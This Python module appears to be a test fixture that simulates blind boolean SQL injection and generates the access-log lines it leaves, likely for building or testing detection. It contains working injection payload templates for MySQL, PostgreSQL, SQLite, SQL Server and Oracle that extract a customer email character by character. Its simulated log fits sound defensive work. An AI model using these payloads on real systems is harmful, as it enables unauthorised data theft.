"""Attackers that extract a known secret through a page that answers truly, and the access log that they leave.

Each extractor asks its questions as text; what the database would have answered is worked out here from the secret, by
the meaning of the form and not by parsing it.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from urllib.parse import quote

Ask = Callable[[str, bool], bool]
"""Sends a condition, given as SQL, of which the truth is known; returns the answer."""


@dataclass
class Page:
    """A page with an injectable parameter. ``around``: what the condition is put into, ``{}`` for the condition."""

    around: str = "1 AND {}"
    true_size: int = 512
    false_size: int = 480
    path: str = "/item"
    encode: Callable[[str], str] = quote
    echoes: int = 0
    lines: list[str] = field(default_factory=list)
    clock: int = 0

    def ask(self, condition: str, holds: bool) -> bool:
        """One request and its line of the log."""
        payload = self.around.format(condition)
        size = (self.true_size if holds else self.false_size) + self.echoes * len(payload.encode())
        self.line(f"{self.path}?id={self.encode(payload)}", size)
        return holds

    def line(self, target: str, size: int, status: int = 200) -> None:
        """One line of the log."""
        self.clock += 1
        minute, second = divmod(self.clock, 60)
        stamp = f"19/Mar/2026:10:{minute % 60:02d}:{second:02d} +0900"
        self.lines.append(f'10.0.0.5 - - [{stamp}] "GET {target} HTTP/1.1" {status} {size} "-" "curl/8"')


def bisected(ask: Ask, question: Callable[[int], str], code: int, high: int) -> int:
    """A number from 0 to ``high`` by halves: ``question(n)`` is true where it is greater than n."""
    low = 0
    while low < high:
        middle = (low + high) // 2
        if ask(question(middle), code > middle):
            low = middle + 1
        else:
            high = middle
    return low


Query = str
Extractor = Callable[[Ask, Query, str], None]
CHARSET = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789@._-+ '"


def _codes(template: str, code_of: Callable[[str], int], high: int) -> Extractor:
    def extract(ask: Ask, query: Query, secret: str) -> None:
        for place in range(1, len(secret) + 2):
            code = code_of(secret[place - 1]) if place <= len(secret) else 0
            bisected(ask, lambda n, at=place: template.format(q=query, p=at, n=n), code, high)

    return extract


def _bits(template: str, code_of: Callable[[str], int], bits: int) -> Extractor:
    def extract(ask: Ask, query: Query, secret: str) -> None:
        for place in range(1, len(secret) + 2):
            code = code_of(secret[place - 1]) if place <= len(secret) else 0
            for bit in range(bits):
                ask(template.format(q=query, p=place, b=bit, m=1 << bit), bool(code >> bit & 1))

    return extract


def _linear(template: str, end: str = "") -> Extractor:
    """Tries one character after the other; where ``end`` is a question, asks it for the length first."""

    def extract(ask: Ask, query: Query, secret: str) -> None:
        if end:
            for size in range(len(secret) + 1):
                ask(end.format(q=query, n=size), size == len(secret))
        for place in range(1, len(secret) + 1):
            for one in CHARSET:
                if ask(
                    template.format(q=query, p=place, c=one.replace("'", "''"), x=one.encode().hex()),
                    one == secret[place - 1],
                ):
                    break

    return extract


def _prefixes(template: str, whole: str) -> Extractor:
    def extract(ask: Ask, query: Query, secret: str) -> None:
        known = ""
        while not ask(whole.format(q=query, t=known.replace("'", "''")), known == secret):
            for one in CHARSET:
                text = known + one
                if ask(template.format(q=query, t=text.replace("'", "''"), n=len(text)), secret.startswith(text)):
                    known = text
                    break

    return extract


def ord_bytes(character: str) -> int:
    """MySQL's ORD."""
    return int.from_bytes(character.encode(), "big")


@dataclass(frozen=True)
class Form:
    """An extractor with a query that it would be used with. ``reach``: which secrets it can read."""

    name: str
    query: str
    extract: Extractor
    reach: str = "ascii"


MYSQL = "SELECT IFNULL(CAST(mail AS NCHAR),0x20) FROM shop.customers ORDER BY id LIMIT 3,1"
POSTGRESQL = (
    "SELECT COALESCE(CAST(mail AS VARCHAR(10000))::text,(CHR(32))) FROM public.customers ORDER BY id OFFSET 3 LIMIT 1"
)
SQLITE = "SELECT COALESCE(CAST(mail AS TEXT),CAST(X'20' AS TEXT)) FROM customers LIMIT 3,1"
SERVER = (
    "SELECT ISNULL(CAST(mail AS NVARCHAR(4000)),CHAR(32)) FROM (SELECT mail, ROW_NUMBER() OVER "
    "(ORDER BY (SELECT 1)) AS CAP FROM shop.dbo.customers)x WHERE CAP=4"
)
ORACLE = (
    "SELECT NVL(CAST(mail AS VARCHAR(4000)),CHR(32)) FROM (SELECT mail,ROWNUM AS CAP FROM SHOP.CUSTOMERS) WHERE CAP=4"
)
SCRIPT = "select mail from customers limit 3,1"

FORMS = (
    Form("mysql ord", MYSQL, _codes("ORD(MID(({q}),{p},1))>{n}", ord_bytes, 0xFFFFFFFF), "any"),
    Form("mysql not between", MYSQL, _codes("ORD(MID(({q}),{p},1)) NOT BETWEEN 0 AND {n}", ord_bytes, 127)),
    Form("mysql flipped", MYSQL, _codes("{n}<ORD(MID(({q}),{p},1))", ord_bytes, 127)),
    Form("mysql case", MYSQL, _codes("(CASE WHEN (ASCII(SUBSTRING(({q}),{p},1))>{n}) THEN 1 ELSE 0 END)=1", ord, 127)),
    Form(
        "mysql greatest", MYSQL, _codes("GREATEST(ORD(MID(({q}),{p},1)),{n}+1)=ORD(MID(({q}),{p},1))", ord_bytes, 127)
    ),
    Form("mysql conv", MYSQL, _codes("CONV(HEX(MID(({q}),{p},1)),16,10)>{n}", ord_bytes, 127)),
    Form(
        "mysql rlike",
        MYSQL,
        _codes("1 RLIKE (SELECT (CASE WHEN (ORD(MID(({q}),{p},1))>{n}) THEN 1 ELSE 0x28 END))", ord_bytes, 127),
    ),
    Form("mysql bin", MYSQL, _bits("SUBSTRING(LPAD(BIN(ASCII(SUBSTRING(({q}),{p},1))),8,0),8-{b},1)=1", ord, 8)),
    Form("mysql hex literal", MYSQL, _linear("SUBSTRING(({q}),{p},1)=0x{x}", "CHAR_LENGTH(({q}))={n}")),
    Form("mysql like binary", MYSQL, _prefixes("({q}) REGEXP BINARY '^{t}'", "BINARY ({q})='{t}'"), "word"),
    Form(
        "postgresql ascii", POSTGRESQL, _codes("ASCII(SUBSTRING(({q})::text FROM {p} FOR 1))>{n}", ord, 0x10FFFF), "any"
    ),
    Form(
        "postgresql bits",
        POSTGRESQL,
        _bits("(ASCII(SUBSTRING(({q})::text FROM {p} FOR 1)) >> {b}) & 1 = 1", ord, 21),
        "any",
    ),
    Form("postgresql equals", POSTGRESQL, _linear("SUBSTR(({q}),{p},1)='{c}'", "LENGTH(({q}))={n}")),
    Form("postgresql like", POSTGRESQL, _prefixes("({q}) LIKE '{t}%'", "({q})='{t}'"), "word"),
    Form("sqlite char", SQLITE, _codes("SUBSTR(({q}),{p},1)>CHAR({n})", ord, 127)),
    Form("sqlite unicode", SQLITE, _codes("UNICODE(SUBSTR(({q}),{p},1))>{n}", ord, 0x10FFFF), "any"),
    Form("sqlite glob", SQLITE, _prefixes("({q}) GLOB '{t}*'", "({q})='{t}'"), "word"),
    Form("sqlite left", SQLITE, _prefixes("SUBSTR(({q}),1,{n})='{t}'", "({q})='{t}'")),
    Form("sql server unicode", SERVER, _codes("UNICODE(SUBSTRING(({q}),{p},1))>{n}", ord, 0xFFFF), "bmp"),
    Form("oracle ascii", ORACLE, _codes("ASCII(SUBSTRC(({q}),{p},1))>{n}", ord_bytes, 0xFFFFFF), "bmp"),
    Form("script mask", SCRIPT, _bits("ascii(substr(({q}),{p},1))&{m}", ord, 8)),
    Form(
        "script in the query",
        "mail",
        _codes("(select ascii(substr({q},{p},1)) from customers limit 3,1)>{n}", ord, 127),
    ),
    Form("script linear", SCRIPT, _linear("ascii(substr(({q}),{p},1))=ascii('{c}')", "length(({q}))={n}")),
    Form("script instr", SCRIPT, _linear("instr('{c}',substr(({q}),{p},1))=1", "length(({q}))={n}"), "word"),
)


def others(page: Page, count: int) -> Iterator[str]:
    """Lines of other people on the same page."""
    for number in range(count):
        yield (
            f"10.0.9.{number % 200} - - [19/Mar/2026:10:00:{number % 60:02d} +0900] "
            f'"GET {page.path}?id={number}&q=a+b%27s HTTP/1.1" 200 {300 + number % 90} "-" "Mozilla/5.0"'
        )
